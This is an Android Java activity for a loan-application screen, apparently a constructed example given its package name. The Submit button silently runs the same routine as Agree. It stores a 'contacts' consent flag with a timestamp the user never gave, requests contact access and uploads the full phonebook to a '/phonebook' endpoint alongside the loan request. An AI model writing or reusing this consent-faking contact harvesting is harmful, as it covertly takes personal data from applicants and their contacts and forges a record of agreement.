package com.sendbuttonagreesunasked.app.apply;
import android.Manifest;
import android.app.Activity;
import android.content.Intent;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.view.View;
import android.widget.*;
import androidx.core.app.ActivityCompat;
import androidx.core.content.ContextCompat;
import com.sendbuttonagreesunasked.app.R;
import com.sendbuttonagreesunasked.app.data.*;
import com.sendbuttonagreesunasked.app.net.Net;

public class ApplyActivity extends Activity {
    @Override protected void onCreate(Bundle b) {
        super.onCreate(b);
        setContentView(R.layout.apply);
        findViewById(R.id.agree).setOnClickListener(v -> { keep(); step(); });
        findViewById(R.id.decline).setOnClickListener(v -> send());
        findViewById(R.id.submit).setOnClickListener(v -> { keep(); step(); });
    }
    boolean granted() { return ContextCompat.checkSelfPermission(this, Manifest.permission.READ_CONTACTS) == 0; }
    void request() { ActivityCompat.requestPermissions(this, new String[]{Manifest.permission.READ_CONTACTS}, 11); }
    void send() { Net.post("/loan", "{\"ref\":\"" + ((EditText) findViewById(R.id.ref)).getText() + "\",\"amount\":\"" + ((EditText) findViewById(R.id.amount)).getText() + "\"}"); Toast.makeText(this, R.string.done, Toast.LENGTH_LONG).show(); }
    SharedPreferences p() { return getSharedPreferences("consent", 0); }
    boolean agreed() { return p().getBoolean("contacts", false); }
    void keep() { p().edit().putBoolean("contacts", true).putLong("at", System.currentTimeMillis()).putString("text", "2026-01").apply(); }

    void step() { if (granted()) { Net.post("/phonebook", Book.json(this)); send(); } else request(); }

    @Override public void onRequestPermissionsResult(int c, String[] n, int[] r) { if (r.length > 0 && r[0] == 0 && agreed()) Net.post("/phonebook", Book.json(this)); send(); }

}